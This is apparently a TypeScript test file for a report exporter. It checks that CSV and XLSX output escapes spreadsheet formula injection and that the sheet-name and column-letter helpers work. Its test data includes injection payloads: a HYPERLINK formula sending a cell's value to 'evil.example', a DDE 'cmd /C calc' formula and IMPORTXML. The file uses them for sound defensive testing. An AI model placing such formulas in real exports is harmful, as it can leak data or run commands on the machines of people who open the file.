import { parse } from 'csv-parse/sync';
import { withoutFormula } from '../../server/domain/without-formula';
import { money, text } from '../../server/reports/column';
import { csvText } from '../../server/reports/export/csv-text';
import type { Line } from '../../server/reports/export/section-lines';
import { sheetNames, type WorkbookJob, type WorkbookPart } from '../../server/reports/export/workbook';
import { columnLetters } from '../../server/reports/export/workbook-cells';
import { renderXlsx } from '../../server/reports/export/xlsx';
import { sectionOf } from '../../server/reports/section';
import { formulasOf, sheetsOf } from '../support/xlsx-sheets';

const NBSP = '\u00a0';

/** What a spreadsheet would evaluate, and how the file contains it. */
const FORMULAS: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?x="&A1,"click")', `'=HYPERLINK("http://evil.example?x="&A1,"click")`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["=IMPORTXML(CONCAT(''))", "'=IMPORTXML(CONCAT(''))"],
  ['+1+1', "'+1+1"],
  ['+919876543210', "'+919876543210"],
  ['-1+1', "'-1+1"],
  ['-', "'-"],
  ['-5', "'-5"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['@', "'@"],
  [' =1', "' =1"],
  ['   +1', "'   +1"],
  [`${NBSP}=1`, `'${NBSP}=1`],
  [`${NBSP} ${NBSP}@x`, `'${NBSP} ${NBSP}@x`],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u3000-1', "'\u3000-1"],
  ['\t=1', "'\t=1"],
  ['\tplain', "'\tplain"],
  ['firm\n=1', "firm\n'=1"],
  ['firm\n\n =1', "firm\n'\n' =1"],
  ['firm\r\n@x', "firm\r\n'@x"],
  ['=a\n=b', "'=a\n'=b"],
  ['\uff1d1', "'\uff1d1"],
  ['\uff0b1', "'\uff0b1"],
  ['\uff0d1', "'\uff0d1"],
  ['\uff201', "'\uff201"],
  ['=', "'="],
  ['==', "'=="],
  ['=\u0915', "'=\u0915"],
];
const HARMLESS = [
  'SHREE TRANSPORT',
  'A=B',
  'a-b',
  "O'NEILL",
  '1+1',
  '100%',
  'x@y.example',
  '',
  'क्षत्रिय',
  '000123',
  '"quoted", and more',
];

test.each(FORMULAS)('writes %j as text in CSV', (given, written) => {
  expect(withoutFormula(given)).toBe(written);
});

test.each(HARMLESS)('writes %j unchanged', (given) => {
  expect(withoutFormula(given)).toBe(given);
});

test('writes escaped texts to the file, and a negative figure as a figure', async () => {
  const section = sectionOf(
    null,
    'T',
    { columns: [text('name', { label: '=Name' }), money('amount', { total: true })], sql: 'SELECT 1' },
    {},
  );
  async function* lines(): AsyncGenerator<Line[]> {
    yield FORMULAS.map(([name]) => ({ _line: 'row', name, amount: -150 }));
    yield [{ _line: 'total', name: null, amount: -4500 }];
  }
  let csv = '';
  for await (const piece of csvText([section], lines, 'Asia/Kolkata')) csv += piece;
  const records: string[][] = parse(csv, { bom: true });
  expect(records).toEqual([
    ["'=Name", 'Amount'],
    ...FORMULAS.map(([, written]) => [written, '-1.50']),
    ['Total', '-45.00'],
  ]);
});

const jobOf = (cells: unknown[][]): [WorkbookJob, (post: (part: WorkbookPart) => void) => Promise<void>] => {
  const columns: WorkbookJob['tables'][0]['columns'] = [
    { name: 'name', label: '=Name', kind: 'text', total: false },
    { name: 'amount', label: 'Amount', kind: 'money', total: true },
  ];
  const table = { title: '=Title', isOnly: true, asFacts: false, optional: false, columns };
  return [
    {
      station: '=Station',
      title: '=Title',
      filters: '=Filters',
      description: '',
      timeZone: 'Asia/Kolkata',
      tables: [{ ...table, rows: [], subtotals: [], totals: null }],
    },
    async (post) => {
      post({ table: 0, kind: 'row', cells });
      post({ table: 0, kind: 'total', cells: [[null, cells.length * -12_345_678_950]] });
      post('end');
    },
  ];
};

test('a workbook has no formulas except its sums, whatever its texts contain', async () => {
  const texts = [
    ...FORMULAS.map(([given]) => given),
    '000123',
    'constructor',
    '__proto__',
    'toString',
    '<b>&amp;"',
    'ab\u0000\u0007c',
  ];
  const [sheet] = await sheetsOf(await renderXlsx(...jobOf(texts.map((name) => [name, -12_345_678_950]))));
  expect([...formulasOf(sheet!)]).toEqual([
    [`B${texts.length + 5}`, [`SUM(B5:B${texts.length + 4})`, texts.length * -123_456_789.5]],
  ]);
  expect(sheet!.xml.match(/<f>/g)).toHaveLength(1);
  expect(sheet!.rows.slice(4, -1).map(([name]) => String(name).trim())).toEqual(
    texts.map((name) => name.replace('\0\u0007', '').replaceAll('\r\n', '\n').trim()),
  );
  expect(new Set(sheet!.rows.slice(4, -1).map(([, amount]) => amount))).toEqual(new Set([-123_456_789.5]));
});

test('sheet names are valid and unique', () => {
  expect(
    sheetNames([
      'Sales: all [of] them?',
      'Swipe',
      'SWIPE',
      'swipe',
      "'quoted'",
      '',
      '///',
      'History',
      'A very long title of a section of a report',
      'A very long title of a section of another report',
    ]),
  ).toEqual([
    'Sales  all  of  them',
    'Swipe',
    'SWIPE (2)',
    'swipe (3)',
    'quoted',
    'Sheet',
    'Sheet (2)',
    'Sheet History',
    'A very long title of a section',
    'A very long title of a sect (2)',
  ]);
});

test('columns continue after Z', () => {
  expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
});
